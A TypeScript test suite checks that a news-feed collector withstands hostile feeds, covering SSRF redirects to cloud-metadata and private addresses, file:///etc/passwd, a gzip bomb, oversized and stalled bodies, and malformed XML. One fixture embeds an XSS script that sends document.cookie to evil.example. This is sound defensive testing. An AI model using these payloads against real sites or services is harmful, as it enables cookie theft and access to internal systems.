// Hostile and faulty feeds, table-driven, against a real HTTP server on 127.0.0.1. Every case
// runs the real collect step (real fetcher, real FsStore) over the hostile feed together with
// a healthy control feed, and asserts what an operator would see: the feed's recorded error
// and failure count, the control feed still collected, and the stored articles intact.
// Refused targets (10.0.0.1, 169.254.169.254, …) are never contacted: the fetcher refuses
// before connecting, and a canary server on another loopback port proves it for 127.0.0.1.
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FsStore } from '../functions/adapters/fs-store.ts';
import { createHttpFetcher } from '../functions/adapters/http-fetcher.ts';
import { canonicalUrl } from '../functions/core/canonical-url.ts';
import { parseFeedState, type FeedState } from '../functions/core/feed-state.ts';
import { articleId, keys } from '../functions/core/ids.ts';
import type { FetchErrorCode, Fetcher } from '../functions/core/ports.ts';
import { parseProfile } from '../functions/core/profile.ts';
import type { Article } from '../functions/core/types.ts';
import { collectFeeds, type CollectResult, type FeedOutcome } from '../functions/pipeline/collect.ts';
import {
  articlePage,
  fullText,
  redirectTo,
  rssFeed,
  serve,
  startTestServer,
  guardLoopbackOnly,
  testLookup,
  type Handler,
  type TestServer,
} from './helpers/hostile-server.ts';

const MAX_BYTES = 4 * 1024 * 1024;
const TOTAL_TIMEOUT_MS = 1200;
const CONNECT_TIMEOUT_MS = 300;

const profile = parseProfile({
  id: 'test',
  name: 'Russia and Vietnam (test)',
  relevance: { requireGroups: [['russia'], ['vietnam']] },
  entities: [
    { name: 'Russia', group: 'russia', kind: 'country', aliases: ['Moscow', 'Россия'] },
    { name: 'Vietnam', group: 'vietnam', kind: 'country', aliases: ['Hanoi', 'Вьетнам'] },
    { name: 'To Lam', group: 'vietnam', kind: 'person', aliases: ['Tô Lâm'] },
  ],
});

let server: TestServer;
let canary: TestServer;
let fetcher: Fetcher;
const tempDirs: string[] = [];
const loopbackOnly = guardLoopbackOnly();

beforeAll(async () => {
  server = await startTestServer();
  canary = await startTestServer();
  fetcher = createHttpFetcher({
    // Only the test server's own host:port is trusted; every other loopback port is refused.
    allowHosts: [`127.0.0.1:${server.port}`],
    connectTimeoutMs: CONNECT_TIMEOUT_MS,
    totalTimeoutMs: TOTAL_TIMEOUT_MS,
    maxBytes: MAX_BYTES,
    maxRetries: 2,
    maxRetryDelayMs: 200,
    lookup: testLookup({
      localhost: '127.0.0.1',
      'internal.test': '10.0.0.1',
      'metadata.test': '169.254.169.254',
      'mapped.test': '::ffff:127.0.0.1',
      'cgnat.test': '100.64.0.1',
      'stall.test': 'hang',
    }),
  });
});

afterAll(async () => {
  loopbackOnly.uninstall();
  await Promise.all([server.close(), canary.close()]);
  await Promise.all(tempDirs.map((dir) => rm(dir, { recursive: true, force: true })));
});

interface Case {
  slug: string;
  store: FsStore;
  path(p: string): string;
  url(p: string): string;
  route(p: string, handler: Handler): void;
  /** Requests the test server received for this case's paths. */
  hits(p: string): number;
  collect(): Promise<Run>;
  feedState(id?: string): Promise<FeedState>;
  articles(): Promise<Article[]>;
  extra: Record<string, unknown>;
  /** The hostile feed(s) of this case, as set up. */
  feedUrls: string[];
}

interface Run {
  result: CollectResult;
  hostile: FeedOutcome;
  control: FeedOutcome;
}

function relevantItem(slug: string, name: string, extra: Partial<Parameters<typeof rssFeed>[0][number]> = {}) {
  return {
    title: `Russia and Vietnam: ${name}`,
    link: `https://news.example/${slug}/${name}`,
    content: fullText(`${slug} ${name}.`),
    pubDate: 'Wed, 19 Jun 2024 08:00:00 GMT',
    ...extra,
  };
}

async function newCase(slug: string): Promise<Case> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'claimwatch-hostile-'));
  tempDirs.push(dir);
  const store = new FsStore(dir);
  const p = (x: string) => `/${slug}${x}`;
  server.route(p('/control.xml'), serve(rssFeed([relevantItem(slug, 'control-story')])));
  const c: Case = {
    slug,
    store,
    path: p,
    url: (x) => server.url(p(x)),
    route: (x, handler) => server.route(p(x), handler),
    hits: (x) => server.requests.filter((r) => r.path === p(x)).length,
    extra: {},
    feedUrls: [],
    async collect() {
      const hostileFeeds = c.feedUrls.map((f, i) => ({
        id: i === 0 ? slug : `${slug}-${i + 1}`,
        name: `Hostile ${slug}`,
        url: /^[a-z]+:/i.test(f) ? f : c.url(f),
        fetchPages: true,
      }));
      const control = { id: `${slug}-control`, name: 'Control', url: c.url('/control.xml'), fetchPages: true };
      const result = await collectFeeds({ store, fetcher, profile, feeds: [...hostileFeeds, control], concurrency: 3 });
      const byId = (id: string) => result.feeds.find((f) => f.feed === id)!;
      return { result, hostile: byId(slug), control: byId(control.id) };
    },
    async feedState(id = slug) {
      const text = await store.get(keys.feedState(id));
      expect(text, `state of ${id}`).toBeDefined();
      return parseFeedState(text!, id);
    },
    async articles() {
      const listed = await store.list('articles/');
      return Promise.all(listed.map(async (key) => JSON.parse((await store.get(key))!) as Article));
    },
  };
  return c;
}

/** The control feed's story is stored, whole, whatever the hostile feed did. */
async function expectControlIntact(c: Case, run: Run) {
  expect(run.control.status).toBe('ok');
  const url = canonicalUrl(`https://news.example/${c.slug}/control-story`);
  const control = (await c.articles()).find((a) => a.url === url);
  expect(control, 'control article stored').toBeDefined();
  expect(control!.id).toBe(articleId(url));
  expect(control!.text).toBe(fullText(`${c.slug} control-story.`));
  expect(control!.title).toBe('Russia and Vietnam: control-story');
}

interface Failure {
  code?: FetchErrorCode;
  error: RegExp;
  /** Further checks, e.g. that a refused target was never contacted. */
  also?: (c: Case, run: Run) => void | Promise<void>;
}

interface HostileCase {
  name: string;
  /** Installs the case's routes; returns the hostile feed URL(s) (paths are on the test server). */
  setup: (c: Case) => string | string[];
  /** A failing feed, or checks of a feed that must be collected despite its quirks. */
  expect: Failure | ((c: Case, run: Run) => Promise<void>);
}

let gzipBomb: Buffer | undefined;
const bomb = () => (gzipBomb ??= zlib.gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 }));

/** Streams `total` bytes, honouring backpressure, and records how many went out. */
function hugeBody(c: Case, total: number): Handler {
  return (_req, res) => {
    res.writeHead(200, { 'content-type': 'application/rss+xml' });
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    let sent = 0;
    const pump = () => {
      while (sent < total && !res.destroyed) {
        sent += chunk.length;
        c.extra.sent = sent;
        if (!res.write(chunk)) return void res.once('drain', pump);
      }
      res.end();
    };
    pump();
  };
}

const cases: HostileCase[] = [
  {
    name: 'malformed XML',
    setup: (c) => (c.route('/feed.xml', serve('<?xml version="1.0"?><rss><channel><item><title>Broken</title></item')), '/feed.xml'),
    expect: { error: /not a readable RSS or Atom feed/ },
  },
  {
    name: 'HTML served as a feed',
    setup: (c) => (c.route('/feed.xml', serve(articlePage('Home', ['Welcome to our site.']), 'text/html')), '/feed.xml'),
    expect: { error: /not a readable RSS or Atom feed/ },
  },
  {
    name: 'empty body',
    setup: (c) => (c.route('/feed.xml', serve('')), '/feed.xml'),
    expect: { error: /the feed is empty/ },
  },
  {
    name: '50 MB body, streamed without a Content-Length',
    setup: (c) => (c.route('/feed.xml', hugeBody(c, 50 * 1024 * 1024)), '/feed.xml'),
    expect: {
      code: 'too-large',
      error: new RegExp(`larger than the ${MAX_BYTES}-byte cap`),
      also: (c) => expect(c.extra.sent as number).toBeLessThan(50 * 1024 * 1024),
    },
  },
  {
    name: '50 MB body announced by Content-Length',
    setup: (c) => {
      c.route('/feed.xml', (_req, res) => {
        res.writeHead(200, { 'content-type': 'application/rss+xml', 'content-length': String(50 * 1024 * 1024) });
        res.write('<rss>'); // the rest never comes: the fetcher must not wait for it
      });
      return '/feed.xml';
    },
    expect: { code: 'too-large', error: /Content-Length 52428800/ },
  },
  {
    name: 'gzip bomb (64 MB of spaces in 64 KB)',
    setup: (c) => (c.route('/feed.xml', serve(bomb(), 'application/rss+xml', { 'content-encoding': 'gzip' })), '/feed.xml'),
    expect: { code: 'too-large', error: /decompressed body is larger than/ },
  },
  {
    name: 'endless slow body',
    setup: (c) => {
      c.route('/feed.xml', (req, res) => {
        res.writeHead(200, { 'content-type': 'application/rss+xml' });
        res.write('<?xml version="1.0"?><rss><channel>');
        const timer = setInterval(() => res.write(' '), 50);
        res.on('close', () => clearInterval(timer));
      });
      return '/feed.xml';
    },
    expect: { code: 'timeout', error: new RegExp(`longer than ${TOTAL_TIMEOUT_MS} ms`) },
  },
  {
    name: 'no response headers ever',
    setup: (c) => (c.route('/feed.xml', () => {}), '/feed.xml'),
    expect: { code: 'timeout', error: new RegExp(`longer than ${TOTAL_TIMEOUT_MS} ms`) },
  },
  {
    name: 'DNS or connect that never completes',
    setup: (c) => `http://stall.test:${server.port}${c.path('/feed.xml')}`,
    expect: { code: 'timeout', error: new RegExp(`no connection to stall.test:\\d+ within ${CONNECT_TIMEOUT_MS} ms`) },
  },
  {
    name: 'redirect loop',
    setup: (c) => {
      c.route('/a.xml', redirectTo(c.path('/b.xml')));
      c.route('/b.xml', redirectTo(c.path('/a.xml'), 301));
      return '/a.xml';
    },
    expect: { code: 'too-many-redirects', error: /more than 5 redirects/, also: (c) => expect(c.hits('/a.xml') + c.hits('/b.xml')).toBe(6) },
  },
  {
    name: 'redirect to another loopback port (127.0.0.1)',
    setup: (c) => (c.route('/feed.xml', redirectTo(`http://127.0.0.1:${canary.port}/feed.xml`)), '/feed.xml'),
    expect: { code: 'blocked-address', error: /refused to connect to 127\.0\.0\.1:\d+/, also: () => expect(canary.connections()).toBe(0) },
  },
  {
    name: 'redirect to localhost by name',
    setup: (c) => (c.route('/feed.xml', redirectTo(`http://localhost:${canary.port}/feed.xml`)), '/feed.xml'),
    expect: { code: 'blocked-address', error: /refused to connect to localhost/, also: () => expect(canary.connections()).toBe(0) },
  },
  {
    name: 'redirect to a private address (10.0.0.1)',
    setup: (c) => (c.route('/feed.xml', redirectTo('http://10.0.0.1/feed.xml')), '/feed.xml'),
    expect: { code: 'blocked-address', error: /refused to connect to 10\.0\.0\.1/ },
  },
  {
    name: 'redirect to cloud metadata (169.254.169.254)',
    setup: (c) => (c.route('/feed.xml', redirectTo('http://169.254.169.254/latest/meta-data/', 307)), '/feed.xml'),
    expect: { code: 'blocked-address', error: /refused to connect to 169\.254\.169\.254/ },
  },
  {
    name: 'redirect to EC2 IPv6 metadata (fd00:ec2::254)',
    setup: (c) => (c.route('/feed.xml', redirectTo('http://[fd00:ec2::254]/latest/meta-data/')), '/feed.xml'),
    expect: { code: 'blocked-address', error: /refused to connect to \[fd00:ec2::254\]/ },
  },
  {
    name: 'redirect to file:///etc/passwd',
    setup: (c) => (c.route('/feed.xml', redirectTo('file:///etc/passwd')), '/feed.xml'),
    expect: { code: 'bad-url', error: /refused file: URL/ },
  },
  {
    name: 'DNS name resolving to cloud metadata',
    setup: (c) => `http://metadata.test:${server.port}${c.path('/feed.xml')}`,
    expect: { code: 'blocked-address', error: /metadata\.test:\d+ \(it resolves to 169\.254\.169\.254\)/ },
  },
  {
    name: 'DNS name resolving to a private address',
    setup: (c) => `http://internal.test${c.path('/feed.xml')}`,
    expect: { code: 'blocked-address', error: /resolves to 10\.0\.0\.1/ },
  },
  {
    name: 'DNS name resolving to IPv4-mapped loopback (::ffff:127.0.0.1)',
    setup: (c) => `http://mapped.test:${server.port}${c.path('/feed.xml')}`,
    expect: { code: 'blocked-address', error: /resolves to ::ffff:127\.0\.0\.1/, also: (c) => expect(c.hits('/feed.xml')).toBe(0) },
  },
  {
    name: 'DNS name resolving to carrier-grade NAT (100.64.0.1)',
    setup: (c) => `http://cgnat.test${c.path('/feed.xml')}`,
    expect: { code: 'blocked-address', error: /resolves to 100\.64\.0\.1/ },
  },
  {
    name: 'feed URL that is not http(s)',
    setup: () => 'ftp://127.0.0.1/feed.xml',
    expect: { code: 'bad-url', error: /refused ftp: URL/ },
  },
  {
    name: 'HTTP 500',
    setup: (c) => (c.route('/feed.xml', (_req, res) => void res.writeHead(500).end('oops')), '/feed.xml'),
    expect: { code: 'http-status', error: /HTTP 500/ },
  },
  {
    name: '503 on every try (bounded retries)',
    setup: (c) => (c.route('/feed.xml', (_req, res) => void res.writeHead(503, { 'retry-after': '0' }).end()), '/feed.xml'),
    expect: { code: 'http-status', error: /HTTP 503 .*still 503 after 2 retries/, also: (c) => expect(c.hits('/feed.xml')).toBe(3) },
  },
  {
    name: '429 asking to wait longer than the fetcher waits',
    setup: (c) => (c.route('/feed.xml', (_req, res) => void res.writeHead(429, { 'retry-after': '120' }).end()), '/feed.xml'),
    expect: { code: 'http-status', error: /HTTP 429 .*asked to wait 120 s/, also: (c) => expect(c.hits('/feed.xml')).toBe(1) },
  },
  {
    name: 'connection reset mid-body',
    setup: (c) => {
      c.route('/feed.xml', (_req, res) => {
        res.writeHead(200, { 'content-type': 'application/rss+xml' });
        res.write('<?xml version="1.0"?><rss><channel><item>');
        setTimeout(() => res.socket?.destroy(), 20);
      });
      return '/feed.xml';
    },
    expect: { code: 'network', error: /./ },
  },
  {
    name: 'unknown Content-Encoding',
    setup: (c) => (c.route('/feed.xml', serve('xx', 'application/rss+xml', { 'content-encoding': 'compress' })), '/feed.xml'),
    expect: { code: 'network', error: /unsupported Content-Encoding "compress"/ },
  },
  {
    name: 'response headers larger than Node accepts',
    setup: (c) => (c.route('/feed.xml', serve('<rss/>', 'application/rss+xml', { 'x-padding': 'a'.repeat(64 * 1024) })), '/feed.xml'),
    expect: { code: 'network', error: /HPE_HEADER_OVERFLOW|header/i },
  },
  {
    name: 'a reply that is not HTTP at all',
    setup: (c) => {
      c.route('/feed.xml', (_req, res) => {
        res.socket?.end('SSH-2.0-OpenSSH_9.6\r\n\r\n');
      });
      return '/feed.xml';
    },
    expect: { code: 'network', error: /HPE_|parse/i },
  },
  {
    name: 'windows-1251 article page, charset only in <meta>',
    setup: (c) => {
      const html = articlePage('Визит', ['Россия и Вьетнам подписали соглашение о сотрудничестве в Ханое.']).replace('<meta charset="utf-8">', '<meta charset="windows-1251">');
      c.route('/page.html', serve(iconv.encode(html, 'win1251'), 'text/html'));
      c.route('/feed.xml', serve(rssFeed([{ title: 'Russia and Vietnam sign (in Russian)', link: c.url('/page.html'), description: 'Россия и Вьетнам.' }])));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      const article = (await c.articles()).find((a) => a.feed === c.slug)!;
      expect(article.text).toContain('Россия и Вьетнам подписали соглашение о сотрудничестве в Ханое.');
    },
  },
  {
    name: 'windows-1251 feed, charset only in the XML prolog',
    setup: (c) => {
      const xml = rssFeed([relevantItem(c.slug, 'cyrillic', { title: 'Россия и Вьетнам подписали соглашение' })], { encoding: 'windows-1251' });
      c.route('/feed.xml', serve(iconv.encode(xml, 'win1251'), 'application/rss+xml'));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      const titles = (await c.articles()).map((a) => a.title);
      expect(titles).toContain('Россия и Вьетнам подписали соглашение');
    },
  },
  {
    name: 'windows-1251 feed, charset only in the Content-Type header',
    setup: (c) => {
      const xml = rssFeed([relevantItem(c.slug, 'cyrillic', { title: 'Москва и Ханой: Россия и Вьетнам' })]).replace(' encoding="UTF-8"', '');
      c.route('/feed.xml', serve(iconv.encode(xml, 'win1251'), 'text/xml; charset=windows-1251'));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      expect((await c.articles()).map((a) => a.title)).toContain('Москва и Ханой: Россия и Вьетнам');
    },
  },
  {
    name: 'UTF-8 feed with a byte order mark',
    setup: (c) => {
      const xml = rssFeed([relevantItem(c.slug, 'bom', { title: 'Tô Lâm welcomes Russia’s president' })]);
      c.route('/feed.xml', serve(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml)]), 'application/rss+xml'));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      expect((await c.articles()).map((a) => a.title)).toContain('Tô Lâm welcomes Russia’s president');
    },
  },
  {
    name: 'gzip-, brotli- and deflate-encoded feeds decode normally',
    setup: (c) => {
      c.route('/gzip.xml', serve(zlib.gzipSync(rssFeed([relevantItem(c.slug, 'gz')])), 'application/rss+xml', { 'content-encoding': 'gzip' }));
      c.route('/br.xml', serve(zlib.brotliCompressSync(rssFeed([relevantItem(c.slug, 'br')])), 'application/rss+xml', { 'content-encoding': 'br' }));
      c.route('/deflate.xml', serve(zlib.deflateSync(rssFeed([relevantItem(c.slug, 'deflate')])), 'application/rss+xml', { 'content-encoding': 'deflate' }));
      return ['/gzip.xml', '/br.xml', '/deflate.xml'];
    },
    expect: async (c, run) => {
      expect(run.result.feeds.filter((f) => f.feed.startsWith(c.slug)).map((f) => f.status)).toEqual(['ok', 'ok', 'ok', 'ok']);
      expect((await c.articles()).map((a) => a.text)).toEqual(
        expect.arrayContaining([fullText(`${c.slug} gz.`), fullText(`${c.slug} br.`), fullText(`${c.slug} deflate.`)]),
      );
    },
  },
  {
    name: 'feed with 10 000 items',
    setup: (c) => {
      const items = Array.from({ length: 10_000 }, (_, i) =>
        i % 1000 === 0
          ? relevantItem(c.slug, `story-${i}`)
          : { title: `Markets update ${i}`, link: `https://news.example/${c.slug}/item-${i}`, description: 'Stocks rose in Europe.' },
      );
      c.route('/feed.xml', serve(rssFeed(items)));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', items: 10_000, stored: 10, skipped: 9_990, retry: 0 });
      expect((await c.feedState()).seen).toHaveLength(10_000);
      const second = await c.collect();
      expect(second.hostile).toMatchObject({ status: 'ok', items: 10_000, stored: 0, skipped: 10_000 });
    },
  },
  {
    name: 'items without link or title, and with a javascript: link',
    setup: (c) => {
      const items = [
        { title: 'Russia and Vietnam: no link at all', description: 'Moscow and Hanoi talk.' },
        relevantItem(c.slug, 'guid-only', { link: undefined, guid: `https://news.example/${c.slug}/guid-only` }),
        relevantItem(c.slug, 'untitled', { title: undefined }),
        relevantItem(c.slug, 'script-link', { link: 'javascript:alert(1)' }),
      ];
      c.route('/feed.xml', serve(rssFeed(items)));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', items: 4, stored: 2, skipped: 2 });
      const stored = (await c.articles()).filter((a) => a.feed === c.slug);
      const guidOnly = stored.find((a) => a.url === `https://news.example/${c.slug}/guid-only`);
      expect(guidOnly?.title).toBe('Russia and Vietnam: guid-only');
      const untitled = stored.find((a) => a.url === `https://news.example/${c.slug}/untitled`);
      expect(untitled?.title).toMatch(new RegExp(`^${c.slug} untitled\\. Paragraph 1: Russia .*…$`));
    },
  },
  {
    name: 'one story in two feeds (tracking and AMP variants of its URL)',
    setup: (c) => {
      const story = `https://news.example/${c.slug}/summit`;
      c.route('/one.xml', serve(rssFeed([relevantItem(c.slug, 'summit', { link: `${story}?utm_source=rss#top` })])));
      c.route('/two.xml', serve(rssFeed([relevantItem(c.slug, 'summit', { link: `${story}/amp/`, title: 'Summit (syndicated)' })])));
      return ['/one.xml', '/two.xml'];
    },
    expect: async (c, run) => {
      const mine = (await c.articles()).filter((a) => a.feed?.startsWith(c.slug) && !a.feed.endsWith('control'));
      expect(mine).toHaveLength(1);
      expect(mine[0].url).toBe(`https://news.example/${c.slug}/summit`);
      expect(run.result.stored.filter((s) => s.id === mine[0].id)).toHaveLength(1);
      await c.collect(); // and never again on a later run
      expect((await c.articles()).filter((a) => a.id === mine[0].id)).toHaveLength(1);
      expect((await c.feedState(`${c.slug}-2`)).seen).toContain(mine[0].id);
    },
  },
  {
    name: '304 Not Modified on the second run',
    setup: (c) => {
      c.route('/feed.xml', (req, res) => {
        if (req.headers['if-none-match'] === '"v1"') return void res.writeHead(304, { etag: '"v1"' }).end();
        res.writeHead(200, { 'content-type': 'application/rss+xml', etag: '"v1"', 'last-modified': 'Wed, 19 Jun 2024 08:00:00 GMT' });
        res.end(rssFeed([relevantItem(c.slug, 'once')]));
      });
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      expect(await c.feedState()).toMatchObject({ etag: '"v1"', lastModified: 'Wed, 19 Jun 2024 08:00:00 GMT' });
      const second = await c.collect();
      expect(second.hostile).toMatchObject({ status: 'not-modified', stored: 0 });
      const conditional = server.requests.filter((r) => r.path === c.path('/feed.xml'))[1];
      expect(conditional.headers).toMatchObject({ 'if-none-match': '"v1"', 'if-modified-since': 'Wed, 19 Jun 2024 08:00:00 GMT' });
      expect(conditional.headers['user-agent']).toMatch(/^claimwatch\/\d/);
      expect(await c.feedState()).toMatchObject({ etag: '"v1"', consecutiveFailures: 0 });
    },
  },
  {
    name: '429 with Retry-After, then the feed',
    setup: (c) => {
      let calls = 0;
      c.route('/feed.xml', (req, res) => {
        if (calls++ === 0) return void res.writeHead(429, { 'retry-after': '0' }).end();
        serve(rssFeed([relevantItem(c.slug, 'after-429')]))(req, res);
      });
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      expect(c.hits('/feed.xml')).toBe(2);
    },
  },
  {
    name: 'article page with <script> in the text',
    setup: (c) => {
      c.route('/page.html', serve(
        articlePage('Putin in Hanoi', [
          'Russia and Vietnam signed 11 documents in Hanoi on Thursday. <script>fetch("https://evil.example/?c="+document.cookie)</script>',
          'The leaders agreed to expand energy cooperation. <img src=x onerror="alert(1)">',
          'Officials said further talks will follow in Moscow later this year, with trade on the agenda.',
        ]),
        'text/html; charset=utf-8',
      ));
      c.route('/feed.xml', serve(rssFeed([{ title: 'Russia and Vietnam sign deals', link: c.url('/page.html'), description: 'Putin in Hanoi.' }])));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      const article = (await c.articles()).find((a) => a.feed === c.slug)!;
      expect(article.text).toContain('Russia and Vietnam signed 11 documents in Hanoi on Thursday.');
      expect(article.text).toContain('further talks will follow in Moscow');
      expect(article.text).not.toMatch(/evil|cookie|onerror|alert|Subscribe|Home/);
    },
  },
  {
    name: 'article page failing, then recovering (nothing lost)',
    setup: (c) => {
      let calls = 0;
      c.route('/page.html', (req, res) => {
        if (calls++ === 0) return void res.writeHead(502).end('bad gateway');
        serve(articlePage('Talks', ['Russia and Vietnam agreed on new flights between Moscow and Hanoi.']), 'text/html')(req, res);
      });
      c.route('/feed.xml', serve(
        rssFeed([{ title: 'Russia–Vietnam flights', link: c.url('/page.html'), description: 'New flights.' }]),
        'application/rss+xml',
        { etag: '"same"' },
      ));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 0, retry: 1, error: expect.stringMatching(/retried next run.*HTTP 502/) });
      const state = await c.feedState();
      expect(state.seen).toHaveLength(0);
      expect(state.etag).toBeUndefined(); // so the next run gets the items again, not a 304
      expect(Object.values(state.pageFailures)).toEqual([1]);
      const second = await c.collect();
      expect(second.hostile).toMatchObject({ status: 'ok', stored: 1, retry: 0 });
      const article = (await c.articles()).find((a) => a.feed === c.slug)!;
      expect(article.text).toContain('new flights between Moscow and Hanoi');
      expect((await c.feedState()).pageFailures).toEqual({});
    },
  },
  {
    name: 'article link that is a PDF: the summary is stored',
    setup: (c) => {
      c.route('/doc.pdf', serve(Buffer.from('%PDF-1.4 \u0000\u0001binary'), 'application/pdf'));
      c.route('/feed.xml', serve(rssFeed([{ title: 'Russia–Vietnam treaty text', link: c.url('/doc.pdf'), description: 'The treaty between Russia and Vietnam, in full.' }])));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1, retry: 0 });
      const article = (await c.articles()).find((a) => a.feed === c.slug)!;
      expect(article.text).toBe('The treaty between Russia and Vietnam, in full.');
    },
  },
  {
    name: 'article link pointing inside (another loopback port): refused, summary stored',
    setup: (c) => {
      c.route('/feed.xml', serve(rssFeed([{ title: 'Russia and Vietnam', link: `http://127.0.0.1:${canary.port}/admin`, description: 'Moscow and Hanoi sign.' }])));
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      expect(canary.connections()).toBe(0);
      expect((await c.articles()).find((a) => a.feed === c.slug)!.text).toBe('Moscow and Hanoi sign.');
    },
  },
  {
    name: 'failures are counted across runs and reset by a success',
    setup: (c) => {
      let calls = 0;
      c.route('/feed.xml', (req, res) => {
        if (calls++ < 2) return serve('<rss><channel><item>')(req, res);
        serve(rssFeed([relevantItem(c.slug, 'finally')]))(req, res);
      });
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile.status).toBe('failed');
      expect((await c.feedState()).consecutiveFailures).toBe(1);
      await c.collect();
      const twice = await c.feedState();
      expect(twice).toMatchObject({ consecutiveFailures: 2, lastError: { message: expect.stringMatching(/not a readable RSS/) } });
      expect(twice.lastSuccessAt).toBeUndefined();
      const third = await c.collect();
      expect(third.hostile).toMatchObject({ status: 'ok', stored: 1 });
      const healed = await c.feedState();
      expect(healed.consecutiveFailures).toBe(0);
      expect(healed.lastSuccessAt).toBeDefined();
    },
  },
  {
    name: 'corrupt feed state',
    setup: (c) => {
      c.route('/feed.xml', serve(rssFeed([relevantItem(c.slug, 'fresh')])));
      c.extra.corrupt = true;
      return '/feed.xml';
    },
    expect: async (c, run) => {
      expect(run.hostile).toMatchObject({ status: 'ok', stored: 1 });
      expect((await c.feedState()).seen).toHaveLength(1);
    },
  },
];

describe('collecting hostile and faulty feeds', () => {
  it('has at least 20 cases', () => expect(cases.length).toBeGreaterThanOrEqual(20));

  it.each(cases.map((hostile, index) => ({ ...hostile, index })))('$name', async ({ setup, expect: expected, index }) => {
    const slug = `case-${index}`;
    const c = await newCase(slug);
    c.feedUrls = [setup(c)].flat();
    if (c.extra.corrupt) await c.store.put(keys.feedState(slug), '{"feed": "case", "seen": 7');

    const run = await c.collect();
    expect(loopbackOnly.attempts, 'connections attempted beyond loopback').toEqual([]);
    await expectControlIntact(c, run);
    if (typeof expected === 'function') {
      await expected(c, run);
      return;
    }
    expect(run.hostile.status).toBe('failed');
    expect(run.hostile.error).toMatch(expected.error);
    const state = await c.feedState();
    expect(state.consecutiveFailures).toBe(1);
    expect(state.lastError?.message).toBe(run.hostile.error);
    if (expected.code) expect(state.lastError?.code).toBe(expected.code);
    // nothing but the control article was stored
    expect((await c.articles()).map((a) => a.feed)).toEqual([`${slug}-control`]);
    await expected.also?.(c, run);
  });
});
